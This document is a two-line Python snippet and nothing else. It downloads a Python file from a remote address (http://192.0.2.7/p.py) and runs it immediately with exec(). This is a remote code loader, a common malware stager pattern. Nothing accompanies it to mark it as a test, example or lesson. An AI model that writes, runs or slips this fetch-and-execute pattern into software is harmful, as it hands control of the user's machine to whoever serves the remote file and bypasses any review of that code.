import os,urllib.request
exec(urllib.request.urlopen('http://192.0.2.7/p.py').read())
